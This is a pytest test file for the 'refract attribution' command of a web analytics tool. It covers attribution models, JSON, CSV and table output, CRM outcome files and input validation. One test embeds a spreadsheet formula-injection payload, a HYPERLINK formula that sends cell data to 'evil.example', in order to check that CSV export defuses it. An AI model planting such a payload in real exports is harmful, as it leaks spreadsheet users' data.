"""`refract attribution` end to end: sessions across channels written through the real
``Archive``, read back by DuckDB, credited by every model and printed as a table, JSON and CSV."""

from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path

import pytest

from refract.admin import cli
from refract.analytics.archive import Archive
from refract.analytics.attribution.report import MODEL_NAMES, RULE_MODELS
from refract.analytics.attribution.rules_based import MODELS
from refract.analytics.crm.sync import outcomes_path
from refract.rules import events
from tests.test_attribution_journeys import DAY, HOST, SITE, T0, pageview

RULES = '[[metrics]]\nkey = "demo"\nkind = "url"\nurl = "/thanks"\nvalue = 100.0\n'
# (referrer, utm, click ids) of each visitor's first and second session; whether they converted
VISITORS = [
    (("https://google.com/", {}, []), ("", {"source": "news", "medium": "email"}, []), True),
    (("", {}, ["gclid"]), ("https://t.co/", {}, []), True),
    (("https://t.co/", {}, []), ("", {}, []), True),
    (("https://google.com/", {}, []), ("", {}, ["gclid"]), False),
    (("", {"source": "news", "medium": "email"}, []), ("", {}, []), False),
]
OUTCOMES = "account_domain,outcome,amount,created,closed\nacme.com,won,9000,2026-03-10,2026-03-10\n"


@pytest.fixture
def config(tmp_path: Path) -> Path:
    """A site whose archive holds five visitors of two sessions each, three converting."""
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "rules.toml").write_text(RULES)
    written: list[events.Event] = []
    for index, (first, second, converts) in enumerate(VISITORS):
        visitor = f"{index:032x}"
        for n, (referrer, utm, click_ids) in enumerate((first, second)):
            at = T0 + index * 600 + n * 60
            written.append(
                pageview(
                    visitor, f"{visitor}-{n}", at, referrer=referrer, utm=utm,
                    click_ids=click_ids, account="acme.com" if index == 0 else "",
                )
            )  # fmt: skip
        if converts:
            written.append(pageview(visitor, f"{visitor}-1", T0 + index * 600 + 90, "/thanks"))
    Archive(tmp_path / "archive").append(written)
    path = tmp_path / "refract.toml"
    path.write_text(
        f'[rules]\ndirectory = "{rules}"\n[events]\narchive_dir = "{tmp_path / "archive"}"\n'
        f'[[sites]]\nhost = "{HOST}"\nid = "{SITE}"\norigin = "http://127.0.0.1:9"\n'
    )
    return path


def attribution(config: Path, *args: str) -> int:
    day = DAY.isoformat()
    return cli.main(["--config", str(config), "attribution", "--from", day, "--to", day, *args])


def test_every_model_credits_exactly_the_conversions_and_their_value(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert attribution(config, "--model", "all", "--format", "json") == 0
    found = json.loads(capsys.readouterr().out)
    assert (found["journeys"], found["conversions"], found["value"]) == (5, 3, 300.0)
    assert set(found["models"]) == set(MODEL_NAMES)
    for model, result in found["models"].items():
        credit = result["credit"]
        assert math.isclose(sum(row["conversions"] for row in credit), 3.0), model
        assert math.isclose(sum(row["value"] for row in credit), 300.0), model
        assert math.isclose(sum(row["conversions_share"] for row in credit), 1.0), model


def test_first_touch_credits_each_conversions_first_channel(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert attribution(config, "--model", "first", "--format", "json") == 0
    credit = json.loads(capsys.readouterr().out)["models"]["first"]["credit"]
    assert {row["key"]: row["conversions"] for row in credit if row["conversions"]} == {
        "Organic Search": 1.0,
        "Paid Search": 1.0,
        "Organic Social": 1.0,
    }


def test_the_rule_based_names_are_the_engines_models() -> None:
    assert tuple(MODELS) == RULE_MODELS


@pytest.mark.parametrize("model", ["linear", "markov", "shapley"])
def test_bootstrap_intervals_hold_each_keys_credit(
    config: Path, capsys: pytest.CaptureFixture[str], model: str
) -> None:
    assert attribution(config, "--model", model, "--intervals", "50", "--format", "json") == 0
    credit = json.loads(capsys.readouterr().out)["models"][model]["credit"]
    for row in credit:
        assert row["conversions_low"] <= row["conversions"] <= row["conversions_high"], row


def test_the_table_puts_the_models_side_by_side(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert attribution(config, "--model", "all") == 0
    header = capsys.readouterr().out.splitlines()[1].split()
    assert header == ["channel", *MODEL_NAMES]


def test_csv_has_one_row_per_model_and_key(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert attribution(config, "--model", "last", "--by", "page", "--format", "csv") == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [(row["model"], row["key"], row["conversions"]) for row in rows] == [
        ("last", "/", "3.0")
    ]


def test_csv_defuses_a_campaign_a_spreadsheet_would_run(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"open")'  # a visitor's utm_campaign
    visitor = "f" * 32
    utm = {"source": "news", "medium": "email", "campaign": formula}
    archive = tmp_path / "archive"
    Archive(archive).append(
        [pageview(visitor, "s", T0, utm=utm), pageview(visitor, "s", T0 + 60, "/thanks")]
    )
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "rules.toml").write_text(RULES)
    config = tmp_path / "refract.toml"
    config.write_text(
        f'[rules]\ndirectory = "{tmp_path / "rules"}"\n[events]\narchive_dir = "{archive}"\n'
        f'[[sites]]\nhost = "{HOST}"\nid = "{SITE}"\norigin = "http://127.0.0.1:9"\n'
    )
    assert attribution(config, "--model", "last", "--by", "campaign", "--format", "csv") == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [row["key"] for row in rows] == ["'" + formula]


def test_too_few_conversions_are_warned_about_on_stderr(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert attribution(config) == 0
    assert "warning: 3 conversions, below [attribution] min_conversions = 30" in (
        capsys.readouterr().err
    )


def test_enough_conversions_are_not_warned_about(
    config: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("REFRACT_ATTRIBUTION__MIN_CONVERSIONS", "3")
    assert attribution(config) == 0
    assert capsys.readouterr().err == ""


def test_won_deals_of_an_outcomes_file_are_the_conversions(
    config: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    outcomes = tmp_path / "deals.csv"
    outcomes.write_text(OUTCOMES)
    assert attribution(config, "--outcomes", str(outcomes), "--format", "json") == 0
    found = json.loads(capsys.readouterr().out)
    credit = found["models"]["last_non_direct"]["credit"]
    assert (found["conversions"], found["value"]) == (1, 9000.0)
    assert {row["key"]: row["value"] for row in credit if row["value"]} == {"Email": 9000.0}


def test_the_deals_the_crm_sync_kept_are_the_conversions_by_default(
    config: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    kept = outcomes_path(tmp_path / ".refract", SITE)  # data_dir is relative to the config
    kept.parent.mkdir(parents=True)
    kept.write_text(OUTCOMES)
    assert attribution(config, "--format", "json") == 0
    found = json.loads(capsys.readouterr().out)
    assert (found["source"], found["conversions"], found["value"]) == ("crm", 1, 9000.0)


def test_a_metric_the_rules_do_not_have_is_refused(
    config: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("REFRACT_ATTRIBUTION__CONVERSION_METRIC", "nope")
    assert attribution(config) == 2
    assert "conversion_metric: no metric 'nope' in the rules" in capsys.readouterr().err


@pytest.mark.parametrize("day", ["2026-W49-1", "20261201"])
def test_a_day_not_written_yyyy_mm_dd_is_refused(
    config: Path, capsys: pytest.CaptureFixture[str], day: str
) -> None:
    # as the API and the files refuse it: Python 3.11 reads week dates and the basic form
    with pytest.raises(SystemExit) as refused:
        cli.main(["--config", str(config), "attribution", "--from", day])
    assert refused.value.code == 2
    assert day in capsys.readouterr().err
